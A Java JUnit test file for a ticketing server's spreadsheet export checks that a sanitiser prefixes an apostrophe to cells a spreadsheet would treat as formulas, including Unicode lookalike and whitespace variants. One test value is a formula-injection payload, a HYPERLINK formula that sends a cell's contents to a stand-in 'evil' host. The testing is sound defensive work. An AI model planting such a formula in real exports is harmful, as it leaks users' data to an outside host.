package io.ticketledger.server.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayNameGeneration(ReplaceUnderscores.class)
class FormulasTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+41", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\u00A0\u2003=1", "\uFEFF=1", "\u200B@x", "\u0001=1", "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF20x", "=",
            "=HYPERLINK(\"http://evil/?\"&A1)", " \r\n-1"})
    void what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(String cell) {
        assertThat(Formulas.harmless(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "x", "1", "a=b", "'=1", "{\"a\":\"=1\"}", "Müller-Lüdenscheidt", "x\n=1", "\u2212", "#", "   x"})
    void all_else_stays_as_it_is(String cell) {
        assertThat(Formulas.harmless(cell)).isEqualTo(cell);
    }
}
